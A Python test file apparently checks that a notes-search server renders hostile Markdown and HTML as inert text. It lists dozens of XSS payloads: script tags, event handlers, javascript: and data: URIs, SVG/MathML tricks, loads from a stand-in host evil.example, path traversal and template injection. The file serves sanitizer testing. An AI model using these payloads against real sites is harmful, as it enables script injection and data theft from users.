#!/usr/bin/env python3
"""Notes written to run something in the browser that shows them: each comes out as text and as tags that run nothing.

    tests/hostile/http_notes_test.py BUILD/bin/gongbu
"""
import html.parser
import urllib.parse

from http_server import Server
from support import check, run_all

# Tag → attributes that it may have. What the page's own HTML is made of (serve/http/inline_html.h).
ALLOWED = {
    **{tag: set() for tag in ("p", "strong", "em", "del", "code", "pre", "ul", "dl", "dt", "dd", "br", "table", "thead", "tbody", "tr", "td", "th",
                              "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "mark", "kbd", "hr")},
    "ol": {"start"}, "li": {"value"}, "a": {"href", "rel", "target"}, "img": {"src", "alt", "loading"}, "div": {"class"}, "span": {"class"},
}
VOID = {"br", "img", "hr"}

# One line each; the word that finds it is put before.
LINES = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script", "</p><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<IMG SRC=\"javascript:alert(1)\">", "<img src=`x`onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x", "<math><mi xlink:href=javascript:alert(1)>x", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=//evil.example>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<style>@import '//evil.example'</style>", "<style>body{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=q><button>go</button></form>", "<button formaction=javascript:alert(1)>x", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>", "<body onload=alert(1)>", "<marquee onstart=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>", "<div id=query>x</div>", "<form id=document><input name=cookie>", "<a name=facets>x</a>", "<p style='position:fixed;inset:0'>x", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<title></title><script>alert(1)</script>", "<textarea></textarea><script>alert(1)</script>", "<xmp><script>alert(1)</script></xmp>", "<plaintext>",
    "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=1?><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](&#106;avascript:alert(1))", "[x](java\tscript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:x)", "[x](//evil.example)", "[x](https://a.example/\"onmouseover=alert(1))",
    "[x](https://a.example/'onmouseover='alert(1))", "[x](<https://a.example/ onclick=alert(1)>)", "![x](javascript:alert(1))", "![\"onerror=alert(1)](a.png)", "![x](https://evil.example/track.png)", "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![[a.png\"onerror=alert(1).png]]", "![[a.png|\"onerror=alert(1)]]", "![[../../etc/passwd]]", "[[x|<script>alert(1)</script>]]", "<https://a.example/\"><script>alert(1)</script>>", "<javascript:alert(1)>",
    "`<script>alert(1)</script>`", "``<img src=x onerror=alert(1)>``", "**<script>alert(1)**</script>", "<b onclick=alert(1)>굵게</b>", "<span class=hidden style=x>보인다</span>", "<u><s><kbd><mark>표시", "</div></li></ol><h1>밖</h1>",
    "| <script>alert(1)</script> | <img src=x onerror=alert(1)> |", "- [ ] <script>alert(1)</script>", "> <script>alert(1)</script>", "1. <script>alert(1)</script>", "# <script>alert(1)</script>", "::: <script>", "$<script>alert(1)</script>$",
    "\u202e<script>alert(1)</script>\u202c", "\ufeff<script>alert(1)</script>", "<\u0000script>alert(1)</script>", "＜script＞alert(1)＜/script＞", "<s\u0131cript>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "javascript:alert(1)",
]
# Whole notes.
NOTES = [
    "```html\n<script>alert(1)</script>\n```\n", "~~~\n</pre><script>alert(1)</script>\n~~~\n", "    <script>alert(1)</script>\n",
    "| 이름 | 값 |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |\n| `a<b` | <br><img src=x onerror=alert(1)> |\n",
    "<table><tr><td onclick=alert(1)>칸<script>alert(1)</script></td></tr></table>\n", "<div onmouseover=alert(1)>\n\n**글**\n\n</div>\n",
    "---\ntitle: <script>alert(1)</script>\naliases: ['<img src=x onerror=alert(1)>']\n---\n글\n", "1. 하나\n99999999999. <script>alert(1)</script>\n", "<" * 5000 + "\n", "[" * 5000 + "\n", "**" * 5000 + "\n", "&" * 5000 + "\n", "![[" * 3000 + "\n",
    "`" * 4999 + "\n", "<a>" * 3000 + "\n", "| a " * 2000 + "|\n|" + "---|" * 2000 + "\n" + "| <script> " * 2000 + "|\n",
]


class Reader(html.parser.HTMLParser):
    """Reads HTML as a browser does and stops at what may not stand there."""

    def __init__(self, what):
        super().__init__(convert_charrefs=True)
        self.what, self.open = what, []

    def refuse(self, why):
        check(False, f"{self.what!r}: {why}")

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED:
            self.refuse(f"<{tag}>")
        for name, value in attrs:
            if name not in ALLOWED[tag]:
                self.refuse(f"{tag} {name}={value!r}")
            if name == "href" and not (value.startswith(("https://", "http://")) and urllib.parse.urlsplit(value).hostname):
                self.refuse(f"leads to {value!r}")
            if name == "src" and not value.startswith("/api/file?passage="):
                self.refuse(f"loads {value!r}")
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        if not self.open or self.open.pop() != tag:
            self.refuse(f"</{tag}> ends nothing")

    def handle_comment(self, data):
        self.refuse(f"a comment: {data!r}")

    def handle_decl(self, decl):
        self.refuse(f"a declaration: {decl!r}")

    def handle_pi(self, data):
        self.refuse(f"an instruction: {data!r}")

    def read(self, text):
        self.feed(text)
        self.close()
        check(not self.open, f"{self.what!r}: {self.open} stay open")


def run_nothing(at):
    """hostile lines and notes are shown as text"""
    texts = [f"# 글 {i}\n\n하마{i}하마 {line}\n" for i, line in enumerate(LINES)]
    texts += [f"# 글 {i}\n\n하마{i}하마\n\n{note}" for i, note in enumerate(NOTES, len(LINES))]
    names = ["<script>alert(1)<", "\"onclick=alert(1) x=\"", "'><img src=x onerror=alert(1)>", "javascript:alert(1)", "%2e%2e", "a\u202eb", "&lt;b&gt;", "a#b?c&d"]
    texts += [f"# 이름\n\n하마{i}하마 글\n" for i in range(len(texts), len(texts) + len(names))]
    for i, text in enumerate(texts):
        name = names[i - len(texts)] if i >= len(texts) - len(names) else f"n{i}"
        at.note(f"{name.replace('/', '')}.md", text)
    at.ok("index", at.notes)
    with Server(at) as server:
        for i, text in enumerate(texts):
            hits = server.get(f"/api/search?q=path:** 하마{i}하마&limit=3").json()["results"]
            check(hits, f"{text!r} is not found")
            for hit in hits:
                shown = server.get(f"/api/passage/{hit['id']}?around=20").json()
                for part in ("before", "html", "after"):
                    Reader(text).read(shown.get(part, ""))
            related = server.get(f"/api/related/{hits[0]['id']}")
            check(related.status == 200 and related.headers["content-type"].startswith("application/json"), related.raw)
        server.answers()
    print(f"{len(texts)} notes")


def keep_what_is_good(at):
    """what is well meant still shows"""
    at.note("good.md", "# 좋은 글\n\n**굵게** `a < b` [문서](https://a.example/x?y=1&z=2) ![[그림.png]] a & b 코끼리\n")
    at.ok("index", at.notes)
    with Server(at) as server:
        hit = server.get("/api/search?q=코끼리").json()["results"][0]
        shown = server.get(f"/api/passage/{hit['id']}").json()["html"]
        for part in ("<strong>굵게</strong>", "<code>a &lt; b</code>", 'href="https://a.example/x?y=1&amp;z=2"', "a &amp; b", "<img", "그림.png"):
            check(part in shown, f"{part} is not in {shown}")


if __name__ == "__main__":
    run_all([run_nothing, keep_what_is_good])
